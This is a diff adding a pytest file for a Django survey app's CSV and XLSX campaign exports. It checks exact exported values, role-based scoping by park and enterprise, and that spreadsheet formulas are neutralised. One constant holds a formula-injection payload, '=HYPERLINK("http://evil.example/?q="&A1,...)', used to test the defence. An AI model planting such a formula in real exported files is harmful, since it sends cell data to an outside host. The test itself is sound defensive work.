@@ -1,0 +1,214 @@
+"""Campaign exports: long and wide, CSV and XLSX, streamed, scoped by role, formulas
+neutralised (issue 4 §8). Values expected are the ones stored, worked out by hand."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from decimal import Decimal
+
+import openpyxl
+import pytest
+from django.urls import reverse
+
+from indicators.models import DataElement
+from surveys.forms import AnswerValue
+from surveys.models import Response
+from surveys.services import response_save_answers
+
+from ..conftest import PASSWORD
+from .test_excel_import import make_xl_campaign
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'
+
+
+def save(campaign, user, response, **values):
+    elements = {e.code: e for e in DataElement.objects.filter(version=campaign.framework_version)}
+    return response_save_answers(
+        response=response,
+        values={elements[code]: value for code, value in values.items()},
+        user=user,
+        expected_version=response.version,
+    )
+
+
+@pytest.fixture
+def xl(personas):
+    """The Excel test campaign with answers from Enterprise A, Amata (park) and Enterprise C."""
+    c = personas.catalogue
+    campaign = make_xl_campaign(c)
+    responses = Response.objects.filter(campaign=campaign)
+    save(
+        campaign,
+        personas.enterprise_a,
+        responses.get(enterprise=personas.ent_a),
+        e_recp=AnswerValue(flag=True, raw="yes"),
+        e_water=AnswerValue(number=Decimal("1234.5"), raw="1.234,5"),
+        e_share=AnswerValue(number=Decimal("12.5"), raw="12,5%"),
+        e_note=AnswerValue(text=HYPERLINK, raw=HYPERLINK[:200]),
+    )
+    save(
+        campaign,
+        personas.park_manager,
+        responses.get(park=c.amata, enterprise__isnull=True),
+        p_water=AnswerValue(number=Decimal("50000"), raw="50.000"),
+    )
+    save(
+        campaign,
+        personas.other_enterprise,
+        responses.get(enterprise=personas.ent_c),
+        e_count=AnswerValue(number=Decimal("4"), raw="4"),
+    )
+    return campaign
+
+
+def export(client, user, campaign, shape, fmt, park=None, language=None):
+    client.login(username=user.username, password=PASSWORD)
+    if language:
+        client.post(reverse("set_language"), {"language": language, "next": "/"})
+    query = {"shape": shape, "format": fmt}
+    if park is not None:
+        query["park"] = park.pk
+    return client.get(reverse("surveys:excel_export", args=[campaign.pk]), query)
+
+
+def csv_rows(response) -> list[list[str]]:
+    assert response.status_code == 200 and response.streaming
+    body = b"".join(response.streaming_content).decode("utf-8")
+    assert body.startswith("\ufeff")  # Excel reads UTF-8 with a BOM
+    return list(csv.reader(io.StringIO(body[1:])))
+
+
+def xlsx_rows(response) -> list[list]:
+    assert response.status_code == 200
+    data = b"".join(response.streaming_content)
+    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
+    return [[c.value for c in row] for row in ws.iter_rows()]
+
+
+AMATA = "Khu công nghiệp Amata"
+
+
+def test_long_csv_has_one_row_per_answer_with_the_exact_values(client, personas, xl):
+    rows = csv_rows(export(client, personas.park_manager, xl, "long", "csv"))
+    assert rows[0] == ["campaign", "period", "park", "enterprise", "tax_code", "data_element",
+                       "label", "value", "unit", "raw", "status"]  # fmt: skip
+    assert rows[1:] == [
+        ["Excel 2025", "2025", AMATA, "", "", "p_water", "Nước cả KCN", "50000", "m³", "50.000",
+         "draft"],
+        ["Excel 2025", "2025", AMATA, "Enterprise A (test)", "0300588569", "e_recp",
+         "Áp dụng RECP", "yes", "", "yes", "draft"],
+        ["Excel 2025", "2025", AMATA, "Enterprise A (test)", "0300588569", "e_water",
+         "Nước sử dụng", "1234.5", "m³", "1.234,5", "draft"],
+        ["Excel 2025", "2025", AMATA, "Enterprise A (test)", "0300588569", "e_share",
+         "Tỷ lệ tái sử dụng", "12.5", "%", "12,5%", "draft"],
+        ["Excel 2025", "2025", AMATA, "Enterprise A (test)", "0300588569", "e_note", "Ghi chú",
+         "'" + HYPERLINK, "", "'" + HYPERLINK, "draft"],
+    ]  # fmt: skip
+
+
+def test_wide_csv_has_one_row_per_respondent_and_a_column_per_element(client, personas, xl):
+    rows = csv_rows(export(client, personas.park_manager, xl, "wide", "csv"))
+    assert rows[0] == ["campaign", "period", "park", "enterprise", "tax_code", "status",
+                       "version", "p_water", "e_recp", "e_count", "e_water", "e_share", "e_iso",
+                       "e_audit", "e_note", "e_proof"]  # fmt: skip
+    by_subject = {row[3]: row for row in rows[1:]}
+    assert set(by_subject) == {"", "Enterprise A (test)", "Enterprise B (test)"}
+    assert by_subject[""][7:] == ["50000"] + [""] * 8
+    assert by_subject["Enterprise A (test)"][4:] == [
+        "0300588569", "draft", "2", "", "yes", "", "1234.5", "12.5", "", "", "'" + HYPERLINK, ""
+    ]  # fmt: skip
+    assert by_subject["Enterprise B (test)"][5:] == ["draft", "1"] + [""] * 9  # no answers
+
+
+def test_long_xlsx_has_typed_values_and_vietnamese_yes(client, personas, xl):
+    rows = xlsx_rows(export(client, personas.park_manager, xl, "long", "xlsx"))
+    values = {row[5]: (row[7], row[9]) for row in rows[1:]}
+    assert values == {
+        "p_water": (50000, "50.000"),
+        "e_recp": ("Có", "yes"),
+        "e_water": (1234.5, "1.234,5"),
+        "e_share": (12.5, "12,5%"),
+        "e_note": (HYPERLINK, HYPERLINK),
+    }
+
+
+def test_wide_xlsx_has_labels_then_codes_then_one_row_per_respondent(client, personas, xl):
+    rows = xlsx_rows(export(client, personas.park_manager, xl, "wide", "xlsx", language="en"))
+    assert rows[0][:7] == ["Campaign", "Period", "Park", "Enterprise", "Tax code", "Status",
+                           "Version"]  # fmt: skip
+    assert rows[0][7] == "Park water [m³]" and rows[1][7] == "p_water"
+    ent_a = next(r for r in rows[2:] if r[3] == "Enterprise A (test)")
+    assert ent_a[7:] == [None, "Yes", None, 1234.5, 12.5, None, None, HYPERLINK, None]
+    assert len(rows) == 2 + 3  # the park and its two enterprises
+
+
+def test_a_formula_in_a_text_answer_is_neutralised_in_csv_and_xlsx(client, personas, xl):
+    rows = csv_rows(export(client, personas.park_manager, xl, "long", "csv"))
+    note = next(r for r in rows if r[5] == "e_note")
+    assert note[7] == "'" + HYPERLINK and note[9] == "'" + HYPERLINK
+    r = export(client, personas.park_manager, xl, "long", "xlsx")
+    data = b"".join(r.streaming_content)
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        sheet = z.read("xl/worksheets/sheet1.xml").decode()
+        styles = z.read("xl/styles.xml").decode()
+    assert "<f>" not in sheet and "HYPERLINK" in sheet  # stored as text, never as a formula
+    assert 'quotePrefix="1"' in styles
+    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
+    cell = next(c for c in ws["H"] if c.value == HYPERLINK)
+    assert cell.data_type == "s" and cell.quotePrefix
+
+
+def test_the_park_managers_export_contains_only_its_park(client, personas, xl):
+    mine = csv_rows(export(client, personas.park_manager, xl, "long", "csv"))
+    assert {row[2] for row in mine[1:]} == {AMATA}
+    assert "0900189284" not in {row[4] for row in mine}
+    everyone = csv_rows(export(client, personas.ministry, xl, "long", "csv"))
+    assert {row[2] for row in everyone[1:]} == {AMATA, "Khu công nghiệp Đình Vũ"}
+    assert len(everyone) == len(mine) + 1  # Enterprise C's one answer
+
+
+def test_an_enterprise_exports_only_its_own_answers(client, personas, xl):
+    rows = csv_rows(export(client, personas.enterprise_b, xl, "wide", "csv"))
+    assert [row[3] for row in rows[1:]] == ["Enterprise B (test)"]
+    rows = csv_rows(export(client, personas.other_enterprise, xl, "long", "csv"))
+    assert [(row[4], row[5], row[7]) for row in rows[1:]] == [("0900189284", "e_count", "4")]
+
+
+def test_another_parks_data_cannot_be_exported(client, personas, xl):
+    amata, dinh_vu = personas.catalogue.amata, personas.catalogue.dinh_vu
+    assert (
+        export(client, personas.other_enterprise, xl, "long", "csv", park=amata).status_code == 404
+    )
+    assert (
+        export(client, personas.park_manager, xl, "long", "xlsx", park=dinh_vu).status_code == 404
+    )
+    assert export(client, personas.board, xl, "wide", "csv", park=dinh_vu).status_code == 404
+    only_dinh_vu = make_xl_campaign(personas.catalogue, parks=[dinh_vu])
+    for user in (personas.enterprise_a, personas.park_manager, personas.board):
+        assert export(client, user, only_dinh_vu, "long", "csv").status_code == 404
+    assert export(client, personas.park_manager, xl, "sideways", "csv").status_code == 404
+
+
+def test_a_park_filter_within_scope_narrows_the_export(client, personas, xl):
+    dinh_vu = personas.catalogue.dinh_vu
+    rows = csv_rows(export(client, personas.ministry, xl, "long", "csv", park=dinh_vu))
+    assert [(row[2], row[5]) for row in rows[1:]] == [("Khu công nghiệp Đình Vũ", "e_count")]
+
+
+def test_the_export_reads_in_a_fixed_number_of_queries(
+    client, personas, xl, django_assert_max_num_queries
+):
+    client.login(username=personas.ministry.username, password=PASSWORD)
+    url = reverse("surveys:excel_export", args=[xl.pk])
+    with django_assert_max_num_queries(12):
+        body = b"".join(client.get(url, {"shape": "wide", "format": "csv"}).streaming_content)
+    assert body.count(b"\n") == 1 + 5  # header, 2 park responses, 3 enterprise responses
+
+
+def test_the_csv_export_is_streamed_in_the_language_of_the_request(client, personas, xl):
+    r = export(client, personas.park_manager, xl, "long", "csv", language="en")
+    rows = csv_rows(r)
+    assert {row[2] for row in rows[1:]} == {"Amata City Bien Hoa Industrial Park"}
+    assert [row[6] for row in rows if row[5] == "e_water"] == ["Water used"]
